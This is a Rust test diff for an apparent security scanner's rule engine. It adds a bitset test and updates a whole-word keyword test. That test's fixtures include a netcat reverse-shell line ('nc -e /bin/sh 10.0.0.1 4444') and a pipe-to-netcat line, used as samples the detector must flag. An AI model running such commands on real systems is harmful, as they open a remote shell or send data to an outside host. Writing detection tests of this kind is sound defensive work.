@@ -443,6 +443,47 @@ mod whole_word_keywords {
     }
 
     #[test]
+    fn rule_bits_read_back_in_rule_order_across_words() {
+        use crate::scan::rules::RuleBits;
+        let (mut a, mut b, mut all) = (RuleBits::new(), RuleBits::new(), RuleBits::new());
+        for r in [129, 0, 64, 63, 5] {
+            a.insert(r);
+        }
+        for r in [64, 5, 7, 128] {
+            b.insert(r);
+        }
+        for r in 0..crate::scan::rules::MAX_RULES {
+            all.insert(r);
+        }
+        assert_eq!(a.iter_and(&all).collect::<Vec<_>>(), [0, 5, 63, 64, 129]);
+        assert_eq!(a.iter_and(&b).collect::<Vec<_>>(), [5, 64]);
+        a.union(&b);
+        assert_eq!(
+            a.iter_and(&all).collect::<Vec<_>>(),
+            [0, 5, 7, 63, 64, 128, 129]
+        );
+        assert!(a.contains(128) && !a.contains(127) && !a.contains(1000));
+        let rule = |i: usize| {
+            format!(
+                r#"{{"id":"r.{i}","category":"c","severity":"low","title":"t","description":"d","keywords":["k{i}"],"pattern":"k{i}"}}"#
+            )
+        };
+        let file = |n: usize| {
+            format!(
+                r#"{{"rules":[{}]}}"#,
+                (0..n).map(rule).collect::<Vec<_>>().join(",")
+            )
+        };
+        assert!(RuleSet::from_json(&file(crate::scan::rules::MAX_RULES)).is_ok());
+        let err = RuleSet::from_json(&file(crate::scan::rules::MAX_RULES + 1))
+            .err()
+            .unwrap();
+        assert!(err.contains("at most 256"), "{err}");
+        a.clear();
+        assert!(a.is_empty() && a.iter_and(&all).next().is_none());
+    }
+
+    #[test]
     fn a_keyword_inside_a_word_is_no_candidate() {
         let set = RuleSet::builtin();
         let netcat = set
@@ -451,14 +492,14 @@ mod whole_word_keywords {
             .position(|r| r.id == "network.netcat-exec")
             .unwrap();
         let candidates = |line: &str| {
-            let mut out = Vec::new();
+            let mut out = crate::scan::rules::RuleBits::new();
             for k in set.keywords_in(line) {
                 set.add_candidates(line, k, &mut out);
             }
             out
         };
-        assert!(!candidates("function sync() { return once; }").contains(&netcat));
-        assert!(candidates("nc -e /bin/sh 10.0.0.1 4444").contains(&netcat));
-        assert!(candidates("x|nc 10.0.0.1 9").contains(&netcat));
+        assert!(!candidates("function sync() { return once; }").contains(netcat));
+        assert!(candidates("nc -e /bin/sh 10.0.0.1 4444").contains(netcat));
+        assert!(candidates("x|nc 10.0.0.1 9").contains(netcat));
     }
 }
